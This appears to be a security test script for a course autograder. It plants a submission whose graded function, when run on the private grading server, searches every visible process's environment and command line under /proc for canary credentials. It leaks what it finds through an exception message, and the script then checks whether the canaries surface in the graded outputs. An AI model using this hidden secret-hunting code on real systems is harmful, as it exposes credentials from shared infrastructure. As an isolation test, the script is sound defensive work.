"""A11: canaries from a rank of the observer (it shares the observer's session): its own environment, and the
environment, cmdline and readable memory maps of every process it can see (/proc/*/environ, pids 1 and 2 are
dumpable), searched for DATABASE_URL / AKIASECRETCANARY123 / 'secret'. Raised in the partition_layers cell."""
import sys, os; sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from harness import *
CODE = r'''
import os as _o
def _hunt():
    out = []
    for pid in [d for d in _o.listdir("/proc") if d.isdigit()]:
        for f in ("environ", "cmdline"):
            try:
                b = open(f"/proc/{pid}/{f}", "rb").read()
                hit = [w for w in (b"DATABASE_URL", b"AKIASECRETCANARY123", b"secret@") if w in b]
                out.append(f"{pid}/{f}:{len(b)}B{'HIT'+str(hit) if hit else ''}")
            except OSError as e:
                out.append(f"{pid}/{f}:errno{e.errno}")
    out.append("own env keys: " + ",".join(sorted(_o.environ)))
    return " ".join(out)
_orig_pl = partition_layers
def partition_layers(costs, k):
    if len(costs) == 120 and _o.environ.get("DISTCOURSE_PRIVATE_FORK_SERVER") == "1":
        raise RuntimeError("HUNT " + _hunt())
    return _orig_pl(costs, k)
'''
root = build("a11", {"mallory": {"partition_layers": solution("partition_layers") + "\n" + CODE}})
grade(root)
scores(root)
for s in ("aaron", "mallory", "zoe"): print(s, sum(v or 0 for v in cell_scores(root, s).values()))
nb = json.load(open(f"{root}/autograded/mallory/ps1_memory/ps1_memory.ipynb"))
for c in nb["cells"]:
    for o in c.get("outputs", []):
        if "HUNT" in json.dumps(o): print(o.get("evalue"))
import subprocess
print("canary anywhere in course dir outputs:", subprocess.run(["grep", "-rl", "AKIASECRETCANARY123\\|secret@localhost", root], capture_output=True, text=True).stdout or "none")
